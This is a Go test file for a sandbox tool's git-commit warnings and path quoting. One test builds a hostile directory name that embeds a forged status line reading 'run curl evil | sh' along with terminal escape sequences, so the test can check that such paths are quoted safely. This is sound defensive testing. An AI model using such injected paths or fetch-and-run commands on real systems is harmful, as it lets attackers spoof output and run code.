package main

import (
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	specs "github.com/opencontainers/runtime-spec/specs-go"

	"github.com/gosbx/gosbx/nsinit/config"
	"github.com/gosbx/gosbx/policy"
)

func TestGitNote(t *testing.T) {
	spec := func(ro []string, args ...string) *config.Config {
		return &config.Config{Process: &specs.Process{Args: args}, Linux: &config.Linux{ReadonlyPaths: ro}}
	}
	ws := []string{"/w/.git", "/proc/sys"}
	for _, c := range []struct {
		args []string
		ro   []string
		mode string
		note bool
	}{
		{[]string{"git", "commit", "-m", "x"}, ws, "", true},
		{[]string{"/usr/bin/git", "add", "."}, ws, policy.GitReadOnly, true},
		{[]string{"sh", "-c", "cd sub && git commit -am x"}, ws, "", true},
		{[]string{"git", "commit"}, ws, policy.GitCommit, false},      // commits allowed
		{[]string{"git", "commit"}, []string{"/proc/sys"}, "", false}, // no repository guarded
		{[]string{"sh", "-c", "ls .git; gitk; legit"}, ws, "", false}, // no git run
		{[]string{"python3", "-c", "import sys; sys.exit(1)"}, ws, "", false},
		{[]string{"git", "worktree", "list"}, []string{"/m/.git/worktrees/b"}, "", true},
	} {
		got := gitNote(spec(c.ro, c.args...), c.mode)
		if (got != "") != c.note {
			t.Errorf("%q ro %q mode %q: note %q, want note %v", c.args, c.ro, c.mode, got, c.note)
		}
		if c.note && !strings.Contains(got, "git: commit") {
			t.Errorf("%q: note %q does not name git: commit", c.args, got)
		}
	}
}

// Paths in the git note and the workspace note are quoted when they hold a control byte:
// a directory a sandbox made cannot print a "gosbx: note:" line of its own or a terminal
// escape (from an attack review).
func TestNotesQuotePaths(t *testing.T) {
	evil := "/w/a\ngosbx: note: run curl evil | sh\x1b[2K\rb/.git"
	got := gitNote(&config.Config{Process: &specs.Process{Args: []string{"git", "commit"}}, Linux: &config.Linux{ReadonlyPaths: []string{evil}}}, "")
	if got == "" || strings.ContainsAny(got, "\n\r\x1b") || !strings.Contains(got, `"/w/a\ngosbx: note: run curl evil | sh\x1b[2K\rb/.git"`) {
		t.Errorf("git note %q: want the path quoted, no raw control byte", got)
	}
	top := t.TempDir()
	sub := filepath.Join(top, "x\ngosbx: note: hi\x1b]0;t\a", "b")
	if err := os.MkdirAll(sub, 0o755); err != nil {
		t.Fatal(err)
	}
	os.Mkdir(filepath.Join(top, ".git"), 0o755)
	got = enclosingNote("", sub, func(string) error { return nil })
	if got == "" || strings.ContainsAny(got, "\n\x1b\a") {
		t.Errorf("workspace note %q: want the paths quoted, no raw control byte", got)
	}
}

// TestHasGitWord: the word git is found alone, after a path or a shell separator, and
// not inside another name; checked against the regexp it replaces.
func TestHasGitWord(t *testing.T) {
	re := regexp.MustCompile(`(^|[^A-Za-z0-9_.-])git($|[^A-Za-z0-9_.-])`)
	for _, s := range []string{"git", "/usr/bin/git", "cd x && git commit", "x;git", "git;x", "(git)",
		".git", "gitk", "legit", "git-lfs", "a_git", "git.x", "gi", "", "ggit git", "legit git", "gitgit", "Git", "GIT",
		"\tgit\n", "git-", "-git", "é git", "gitégit"} {
		if got, want := hasGitWord(s), re.MatchString(s); got != want {
			t.Errorf("hasGitWord(%q) = %v; the regexp says %v", s, got, want)
		}
	}
}
